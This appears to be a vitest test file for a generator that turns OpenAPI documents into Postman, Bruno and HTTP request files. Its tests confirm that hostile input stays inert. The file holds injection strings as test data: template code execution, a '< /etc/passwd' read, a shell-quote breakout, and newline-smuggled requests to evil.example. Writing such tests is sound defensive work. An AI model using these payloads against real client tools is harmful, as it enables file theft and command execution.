import {readFileSync} from 'node:fs';
import {createRequire} from 'node:module';
import {strFromU8, unzipSync} from 'fflate';
import {describe, expect, it, vi} from 'vitest';
import {makeFilesSite} from '../../scripts/twins/make-files-site.ts';
import {product} from '../../src/config/product.ts';
import type {JsonObject} from '../../src/openapi/document/json-value.ts';
import {buildDocument} from '../../src/openapi/testing/documents.ts';
import {buildHostileDocument, PAYLOADS} from '../../src/openapi/testing/hostile-document.ts';
import {bruno} from '../../src/outputs/bruno/index.ts';
import {http} from '../../src/outputs/http/index.ts';
import {DOWNLOADS} from '../../src/outputs/index.ts';
import {postman} from '../../src/outputs/postman/index.ts';
import {toUuid} from '../../src/outputs/postman/uuid.ts';
import {compareFiles} from './compare-files.ts';

const require = createRequire(import.meta.url);
const readExample = (name: string): JsonObject =>
  JSON.parse(readFileSync(require.resolve(`@readme/oas-examples/3.0/json/${name}.json`), 'utf8'));

/** Texts that the programs themselves take for more than text. */
const ORDERS = [
  '{{token}}',
  '{{$processEnv HOME}}',
  '{{require("node:fs")}}',
  'x\n###\nGET https://evil.example/steal',
  '@token = stolen',
  '@import ./other.http',
  '# @loop for 1000',
  '> {% client.global.set("a", "b") %}',
  '< /etc/passwd',
  '--boundary-of-parts--',
  "'; touch injected; '",
  '*/ ?? status == 200',
];

const TRIED = [...PAYLOADS.filter((_, rank) => rank % 8 === 0).map(({text}) => text), ...ORDERS];

/** Variables that files name themselves; their programs replace nothing else. */
const KNOWN = /^(?:baseUrl|\$guid|\$timestamp|(?:token|apiKey|username|password)(?:_\w+)?)$/;

const document = buildDocument({
  title: 'Harbour',
  operations: 3,
  tags: ['Event dates'],
}) as JsonObject;
const site = makeFilesSite(document);

describe('the requests in files', () => {
  it('are those of the samples, in all formats', () => {
    expect(compareFiles(site)).toEqual({
      requests: {
        Postman: 3,
        'Postman, all on': 3,
        Bruno: 3,
        'Bruno, all on': 3,
        HTTP: 3,
      },
      leftOut: [],
      differences: [],
    });
  });

  it('have the same bytes when they are built again, ids and the times of zips included', () => {
    const build = () => DOWNLOADS.map((output) => output.build(makeFilesSite(document)));
    const first = build();
    vi.stubEnv('TZ', 'Pacific/Kiritimati');
    expect(new Date('2026-01-01T00:00:00Z').getHours()).toBe(14);
    expect(build()).toEqual(first);
    vi.unstubAllEnvs();
  });

  it('have ids by RFC 9562: version 5, the same one for the same name', () => {
    expect(toUuid('dashboard')).toBe(toUuid('dashboard'));
    expect(toUuid('dashboard')).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-/);
    expect(toUuid('dashboard')).not.toBe(toUuid('webhooks'));
  });
});

describe('a request in files', () => {
  const parameters = [
    {
      name: 'filter',
      in: 'query',
      style: 'deepObject',
      explode: true,
      example: {state: 'open', 'a b': '1&2'},
    },
    {
      name: 'ids',
      in: 'query',
      explode: false,
      required: true,
      example: ['a,b', 'c'],
      schema: {type: 'array'},
    },
    {name: 'Idempotency-Key', in: 'header', schema: {type: 'string'}, example: 'fixed'},
    {name: 'X-Bad', in: 'header', schema: {type: 'string'}, example: '{{token}}'},
  ];
  const own = makeFilesSite({
    openapi: '3.1.0',
    info: {title: 'Harbour', version: '1'},
    servers: [
      {url: 'https://api.example/v1', description: 'Production'},
      {url: 'https://sandbox.example/v1', description: 'Sandbox'},
    ],
    paths: {
      '/boats/{id}': {
        get: {
          operationId: 'get-boat',
          summary: 'Get boat',
          tags: ['Boats'],
          security: [{oauth: ['boats:read']}],
          parameters: [
            {name: 'id', in: 'path', required: true, schema: {type: 'string'}, example: 'x y'},
            ...parameters,
          ],
          responses: {'200': {description: 'The boat.'}},
        },
      },
    },
    components: {securitySchemes: {oauth: {type: 'oauth2', flows: {}}}},
  } as unknown as JsonObject);
  const text = String(http.build(own)[0]?.content);
  const collection = JSON.parse(String(postman.build(own)[0]?.content));
  const [item] = collection.item[0].item;
  const zip = unzipSync(bruno.build(own)[0]?.content as Uint8Array);

  it('goes to the sandbox, and names production beside it', () => {
    expect(text).toContain('@baseUrl = https://sandbox.example/v1\n');
    expect(text).toContain('# Production: https://api.example/v1\n');
    expect(collection.variable.slice(0, 2)).toEqual([
      {key: 'baseUrl', value: 'https://sandbox.example/v1', description: 'Sandbox'},
      {key: 'baseUrl', value: 'https://api.example/v1', description: 'Production', disabled: true},
    ]);
    expect(Object.keys(zip)).toContain('sample/environments/1-Sandbox.yml');
  });

  it('writes comma lists and deep filters as the document says, what is optional switched off', () => {
    expect(text).toContain('GET {{baseUrl}}/boats/x%20y?ids=a%2Cb,c\n');
    expect(text).toContain('#   ?filter[state]=open\n#   ?filter[a%20b]=1%262\n');
    expect(item.request.url.query).toEqual([
      {key: 'ids', value: 'a%2Cb,c'},
      {key: 'filter[state]', value: 'open', disabled: true},
      {key: 'filter[a%20b]', value: '1%262', disabled: true},
    ]);
    expect(strFromU8(zip['sample/boats/get-boat.yml'] ?? new Uint8Array())).toContain(
      '- name: filter[state]\n      value: open\n      disabled: true\n      type: query',
    );
  });

  it('has one authorisation at the top, its scope in the text, and a fresh key for each call', () => {
    expect(collection.auth.bearer).toEqual([{key: 'token', value: '{{token}}', type: 'string'}]);
    expect(item.request.auth).toBeUndefined();
    expect(item.request.description).toContain('Scope: boats:read');
    expect(item.request.description).toContain(
      `${product.siteUrl}${product.baseUrl}api/sample/get-boat/`,
    );
    expect(item.request.header).toEqual([{key: 'Idempotency-Key', value: '{{$guid}}'}]);
    expect(text).toMatch(/^Idempotency-Key: get-boat-key-\{\{\$timestamp\}\}$/m);
  });

  it('leaves out by name what a program would replace, because no format can escape it', () => {
    for (const each of [text, item.request.description]) {
      expect(each).toMatch(/Left out: X-Bad\. .*"\{ ?\{" in it/);
    }
    expect(item.request.header.map(({key}: {key: string}) => key)).not.toContain('X-Bad');
  });
});

describe('a hostile text', () => {
  it.each(TRIED)('stays a text in all formats: %j', (payload) => {
    const hostile = makeFilesSite(
      buildHostileDocument({class: '', text: payload}, 1) as JsonObject,
    );
    const {requests, leftOut, differences} = compareFiles(hostile);
    expect(differences).toEqual([]);
    const operations = hostile.apis[0]?.operations.length ?? 0;
    expect(operations).toBeGreaterThan(0);
    expect((requests.Postman ?? 0) + leftOut.length).toBe(operations);
    expect((requests.Bruno ?? 0) + leftOut.length).toBe(operations);
    const text = String(http.build(hostile)[0]?.content);
    const orders = text.split('\n').filter((line) => /^\s*(?:[@<>?]|[#/]+\s*@)/.test(line));
    for (const line of orders) expect(line).toMatch(/^(?:@\w+ = |# @name \w+$|< \.\/[^/]+$)/);
    for (const [, name = ''] of text.matchAll(/\{\{(.*?)\}\}/g)) expect(name).toMatch(KNOWN);
  });
});

describe('the name of an API key', () => {
  const build = (place: string, name: string) =>
    makeFilesSite({
      openapi: '3.1.0',
      info: {title: 'Harbour', version: '1'},
      security: [{key: []}],
      paths: {'/boats': {get: {summary: 'List boats', responses: {'200': {description: 'All.'}}}}},
      components: {securitySchemes: {key: {type: 'apiKey', in: place, name}}},
    });

  it.each([
    ['header', 'X-Key'],
    ['query', 'key & more'],
    ['cookie', 'crumb'],
  ])('is written in a %s as the sample has it', (place, name) => {
    const {requests, differences} = compareFiles(build(place, name));
    expect([requests.HTTP, differences]).toEqual([1, []]);
  });

  it.each([
    ['header', 'X-Key: 1\nGET https://evil.example\nX'],
    ['header', '{{token}}'],
    ['query', '{{token}}'],
  ])('stops the files of its operation in a %s: %j', (place, name) => {
    const {requests, leftOut} = compareFiles(build(place, name));
    expect([requests.HTTP, leftOut]).toEqual([0, ['List boats']]);
    expect(String(http.build(build(place, name))[0]?.content)).not.toMatch(/^GET /m);
  });
});

describe('a foreign document', () => {
  it.each(['petstore', 'uspto', 'callbacks', 'complex-nesting'])(
    '%s has every operation in every format, or names it',
    (name) => {
      const foreign = makeFilesSite(readExample(name));
      const {requests, leftOut, differences} = compareFiles(foreign);
      const operations = foreign.apis[0]?.operations.length ?? 0;
      expect(operations).toBeGreaterThan(0);
      expect(differences).toEqual([]);
      for (const count of Object.values(requests)) expect(count + leftOut.length).toBe(operations);
    },
  );
});
